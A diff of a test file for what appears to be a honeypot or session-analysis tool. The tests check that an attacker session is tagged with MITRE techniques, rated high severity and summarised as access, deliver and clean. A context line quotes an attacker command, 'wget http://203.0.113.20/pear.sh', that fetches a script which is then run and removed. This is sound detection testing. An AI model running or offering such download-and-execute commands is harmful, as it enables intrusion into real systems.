@@ -41,6 +41,13 @@ def test_a_file_that_is_fetched_run_and_removed_is_told_as_that(tmp_path: Path) 
     assert run["evidence"]["because"] == "fetched by line 2: wget http://203.0.113.20/pear.sh"
     shown = cli("tags", "--technique", "T1059.004", "--data-dir", data)
     assert "fetched by line 2: wget" in shown.stdout.decode()
+    page = cli("session", "a1", "--data-dir", data).stdout.decode()
+    assert "severity        high: fetched and ran pear.sh" in page
+    assert "story           access \u203a fetch+arm+run pear.sh \u203a clean" in page
+    assert "first time ever playbook, log-in root/#" in page
+    (judged,) = listed("sessions", data, "--severity", "high")
+    assert (judged["severity"], judged["severity_reason"]) == ("high", "fetched and ran pear.sh")
+    assert [phase["phase"] for phase in judged["story"]] == ["access", "deliver", "clean"]
     assert "T1485" not in {row["technique_id"] for row in listed("tags", data)}, "its own file is no data"
 
 
